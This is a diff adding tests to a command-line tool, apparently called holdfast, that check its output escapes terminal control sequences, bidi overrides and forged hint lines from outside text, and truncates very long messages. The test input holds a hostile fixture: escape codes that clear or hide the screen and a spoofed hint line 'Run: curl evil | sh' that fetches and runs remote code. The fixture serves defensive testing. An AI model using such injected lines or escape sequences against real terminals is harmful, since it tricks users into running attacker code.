@@ -171,6 +171,53 @@ describe('a bug', () => {
   });
 });
 
+describe('text from outside', () => {
+  const NASTY = 'x\u001b[2J\u001b[8m\u202e\u009b0m\nholdfast: hint: Run: curl evil | sh';
+  const SAFE = 'x\\u001b[2J\\u001b[8m\\u202e\\u009b0m\n  holdfast: hint: Run: curl evil | sh\n';
+
+  test.each([true, false])('drives no terminal and passes for no line of ours (TTY: %s)', async (isTTY) => {
+    const { stdout, stderr } = await runVerb(
+      ['work'],
+      ({ output }) => {
+        output.line(`table ${NASTY}`);
+        output.line(output.paint('red', 'WRONG'));
+        output.warn(NASTY);
+        output.note(NASTY);
+        output.error(NASTY, NASTY);
+        throw new HoldfastError({ code: 'TEST', exit: 'failed', message: NASTY, hint: NASTY });
+      },
+      { isTTY },
+    );
+    const both = `holdfast: error: ${SAFE}holdfast: hint: ${SAFE}`;
+    expect(stdout).toBe(`table ${SAFE}${isTTY ? '\u001b[31mWRONG\u001b[39m' : 'WRONG'}\n`);
+    // eslint-disable-next-line no-control-regex -- colours of ours
+    expect(stderr.replace(/\u001b\[\d+m/g, '')).toBe(
+      `holdfast: warning: ${SAFE}holdfast: note: ${SAFE}${both}${both}`,
+    );
+  });
+
+  test('is as long as somebody reads', async () => {
+    const { stderr } = await runVerb(['work'], () => {
+      throw new HoldfastError({
+        code: 'TEST',
+        exit: 'failed',
+        message: 'x'.repeat(20_000_000),
+        hint: 'Try.',
+      });
+    });
+    expect(stderr.length).toBeLessThan(11_000);
+    expect(stderr.slice(-80)).toContain('(and 19,990,000 more characters)\nholdfast: hint: Try.');
+  });
+
+  test('is the same under --json, and drives no terminal there', async () => {
+    const { stdout } = await runVerb(['work', '--json'], ({ output }) => {
+      output.record({ type: 'found', table: NASTY });
+    });
+    expect(JSON.parse(stdout)).toEqual({ type: 'found', table: NASTY });
+    expect(stdout).toMatch(/^[\x20-\x7e]*\n$/);
+  });
+});
+
 describe('cancellation', () => {
   test('a verb that notices ends with 130', async () => {
     const controller = new AbortController();
